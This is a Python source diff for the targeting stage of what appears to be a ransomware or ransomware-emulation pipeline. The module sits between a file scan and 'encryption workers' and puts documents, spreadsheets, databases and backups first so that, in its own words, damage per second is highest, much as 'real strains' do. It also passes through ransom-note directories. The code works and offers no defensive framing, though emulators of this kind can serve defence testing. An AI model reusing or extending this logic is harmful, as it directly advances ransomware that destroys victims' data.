@@ -0,0 +1,85 @@
+# Ordering stage between the scan and the encryption workers.
+#
+# Real strains do not encrypt in directory order: they go for the files that
+# do the most damage per second first. order_batches re-orders the stream of
+# (files, note_dirs) batches through a heap. With a window the heap holds at
+# most that many files, so a pipelined scan still streams (the order is
+# then exact only within the window); without one the whole scan is
+# ordered before the first batch goes out.
+import heapq
+import random
+from itertools import count
+
+ORDER_STRATEGIES = ("walk", "smallest_first", "largest_first", "by_extension_priority", "random")
+ORDER_WINDOW = 4096      # files held back for ordering in a pipelined run
+
+# Documents and spreadsheets first, then images and media, then archives;
+# anything not listed goes last. Content labels (file_magic) are ranked too.
+DEFAULT_EXTENSION_PRIORITY = (
+    ".docx", ".doc", ".xlsx", ".xls", ".pptx", ".ppt", ".pdf", ".odt", ".ods", ".odp",
+    ".txt", ".csv", ".rtf", ".md", ".sql", ".db", ".sqlite",
+    ".jpg", ".jpeg", ".png", ".gif", ".psd", ".mp4", ".mov", ".mp3",
+    ".zip", ".7z", ".rar", ".gz", ".tar", ".bak",
+    "ooxml", "ole2", "pdf", "odf", "text", "sqlite", "jpeg", "png", "gif", "mp4", "zip",
+)
+
+def order_key(strategy: str, extension_priority=DEFAULT_EXTENSION_PRIORITY, seed=None):
+    """Heap key for a scanner.ScanEntry under strategy (None for "walk")."""
+    if strategy not in ORDER_STRATEGIES:
+        raise ValueError(f"Unknown ordering strategy '{strategy}', expected one of: {', '.join(ORDER_STRATEGIES)}")
+    if strategy == "walk":
+        return None
+    if strategy == "smallest_first":
+        return lambda entry: entry.size
+    if strategy == "largest_first":
+        return lambda entry: -entry.size
+    if strategy == "random":
+        rng = random.Random(seed)
+        return lambda entry: rng.random()
+    rank = {ext: i for i, ext in enumerate(extension_priority)}
+    last = len(rank)
+    # Within a rank, smaller files first: more files done per second.
+    return lambda entry: (rank.get(entry.content_type, rank.get(entry.suffix, last)), entry.size)
+
+def order_batches(batches, key, max_batch: int, window: int = None):
+    """
+    Re-yield (files, note_dirs) batches with files in ascending key order.
+
+    Upstream batches are absorbed until the heap holds window files (all of
+    them when window is None), the upstream ends, or it yields an empty
+    batch (a pipelined scan with nothing new). Then the smallest-keyed files
+    go out in batches whose size doubles from 1 to max_batch, so the first
+    files are handed to the workers quickly. Note directories pass straight
+    through, and an empty upstream batch is passed on when there is nothing
+    to send, so the consumer can still poll for results and stop requests.
+    """
+    heap = []
+    seq = count()             # tie-breaker: equal keys keep scan order, entries are never compared
+    upstream = iter(batches)
+    exhausted = False
+    idle = False              # upstream had nothing new: send what is held before asking again
+    limit = 1
+    while True:
+        while not exhausted and not idle and (window is None or len(heap) < window):
+            try:
+                files, note_dirs = next(upstream)
+            except StopIteration:
+                exhausted = True
+                break
+            if note_dirs:
+                yield [], note_dirs
+            for entry in files:
+                heapq.heappush(heap, (key(entry), next(seq), entry))
+            idle = not files and not note_dirs
+        if not heap:
+            if exhausted:
+                return
+            if idle:
+                yield [], []
+                idle = False
+            continue
+        out = [heapq.heappop(heap)[2] for _ in range(min(limit, len(heap)))]
+        limit = min(max_batch, limit * 2)
+        if not heap:
+            idle = False
+        yield out, []